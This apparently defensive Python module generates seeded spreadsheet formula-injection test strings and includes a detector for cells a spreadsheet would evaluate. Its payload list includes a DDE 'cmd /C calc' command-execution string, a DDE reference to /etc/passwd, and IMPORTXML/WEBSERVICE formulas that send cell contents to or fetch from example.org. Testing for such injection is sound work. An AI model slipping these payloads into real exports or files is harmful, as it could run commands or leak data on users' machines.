"""Texts that a spreadsheet would compute, call or fetch, each told apart by its number."""

from __future__ import annotations

import random
from collections.abc import Iterator

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
"""What makes a formula; the wide ones are taken for the others by Excel."""

_LED_BY = ("", "", "", " ", "\t", "\n", "'", "\u00a0", "  ", "\t\n")
_BODIES = (
    "1+{n}",
    "SUM(A1:A{n})",
    "cmd|' /C calc'!A{n}",
    'HYPERLINK("https://example.org/?{n}","Voir")',
    'WEBSERVICE("https://example.org/{n}")',
    'IMPORTXML(CONCAT("https://example.org/",A{n}),"//a")',
    'DDE("soffice";"\'file:///etc/passwd\'#$passwd.A{n}")',
    'INDIRECT("A"&{n})',
    "A{n}*2",
    'IF(TRUE;"{n}";"";)',
    "{{1;2;{n}}}",
    'T("{n}")&CHAR(61)',
    "33 6 12 34 56 7{n}x",
)


def payloads(seed: int, count: int) -> Iterator[str]:
    """Yield that many texts, no two the same; the same ones for a seed."""
    chance = random.Random(seed)
    for number in range(count):
        lead = chance.choice(_LED_BY)
        body = chance.choice(_BODIES).format(n=number)
        yield f"{lead}{SIGNS[number % len(SIGNS)]}{body}"


def is_live(cell: str) -> bool:
    """Tell whether a spreadsheet would compute a cell of a text file."""
    return cell.lstrip(" \t\r\n\u00a0")[:1] in {*SIGNS} or cell[:1] in {"\t", "\r", "\n", "\0"}
